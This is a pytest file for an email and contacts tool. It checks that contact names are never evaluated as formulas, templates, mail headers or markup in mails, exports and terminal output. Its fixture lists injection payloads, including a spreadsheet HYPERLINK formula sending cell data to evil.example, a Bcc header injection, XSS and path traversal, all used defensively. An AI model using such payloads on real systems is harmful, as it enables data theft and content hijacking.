"""What a contact is called is text, wherever it comes: never evaluated, never a header, never a
formula.  (No thread read: the limits that the runtime has to keep.)
"""

from __future__ import annotations

import csv
import io
import json
from email import message_from_bytes
from email.policy import default

import pytest

from tests.cli.machine import Machine
from tests.stores.opening import Database

NAMES = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "plus": "+1+1",
    "at": "@SUM(1+1)",
    "template": "{{ 7*7 }}{% for x in [1,2] %}boo{% endfor %}",
    "header": "Anna\r\nBcc: victim@evil.example\r\n\r\nhidden",
    "newline": "Anna\nBcc: victim@evil.example",
    "markup": "<script>alert(1)</script>&\"'<img src=x onerror=y>",
    "path": "../../etc/passwd",
}
SHOP = """
contact
  first_name text

message "Plain"
  kind service
  channel email
  subject "For {{ first_name }}"
  body "Dear {{ first_name }},"

message "Marked"
  kind service
  channel email
  subject "For {{ first_name }}"
  body file "mail.html"

campaign "Both"
  start when email is set
  send "Plain"
  send "Marked"
  tag "done"
"""


@pytest.fixture
def machine(machine: Machine, database: Database) -> Machine:
    machine.over(database.url)
    machine.file("flow.toml", 'timezone = "UTC"\n[sender]\nfrom = "Shop <shop@example.com>"\n')
    machine.file("shop.flow", SHOP)
    machine.file("mail.html", '<p title="{{ first_name }}">Dear {{ first_name }},</p>')
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["id", "email", "first_name"])
    writer.writerows([one, f"{one}@example.com", name] for one, name in NAMES.items())
    machine.file("c.csv", rows.getvalue())
    assert "8 rows read, 8 taken, 0 left out" in machine("contacts", "import", "c.csv").talk
    assert "sent       Marked 8, Plain 8" in machine("run", "--once").talk
    return machine


def test_a_name_is_text_in_every_mail(machine: Machine) -> None:
    mails = [one.read_bytes() for one in (machine.folder / ".flow" / "outbox").iterdir()]
    assert len(mails) == 16
    for raw in mails:
        mail = message_from_bytes(raw, policy=default)
        name = NAMES[str(mail["To"]).partition("@")[0].strip('" <')]
        assert not mail.defects
        assert mail["Bcc"] is None
        assert str(mail["To"]).count("@") == 1
        assert str(mail["Subject"]) == f"For {' '.join(name.split())}"
        text = mail.get_body(("plain",))
        assert text is not None
        assert "49" not in text.get_content()
        assert "booboo" not in text.get_content()
        html = mail.get_body(("html",))
        if html is None:
            shown = text.get_content().replace("\r\n", "\n").strip()
            assert shown == f"Dear {name},".replace("\r\n", "\n")
        else:
            assert "<script" not in html.get_content()
            assert "<img" not in html.get_content()
            assert html.get_content().count('"') == 2  # the quotes of the attribute itself


def test_no_cell_of_an_export_is_a_formula_and_json_keeps_what_was_there(machine: Machine) -> None:
    exported = machine("contacts", "export", "--output-format", "csv")
    assert exported.code == 0, exported.talk
    rows = list(csv.DictReader(io.StringIO(exported.data)))
    assert len(rows) == 8
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    lines = machine("contacts", "export", "--output-format", "jsonl").data.splitlines()
    found = {one["id"]: one["first_name"] for one in map(json.loads, lines)}
    assert found == {one: name.replace("\r\n", "\n") for one, name in NAMES.items()}


def test_what_a_person_is_shown_is_one_line_without_control_characters(machine: Machine) -> None:
    for name in NAMES:
        for verb in ("show", "history", "why"):
            done = machine("contacts", verb, name)
            assert done.code == 0, done.talk
            assert not any(one in done.data for one in "\r\x1b\x07")
            assert "\nBcc:" not in done.data
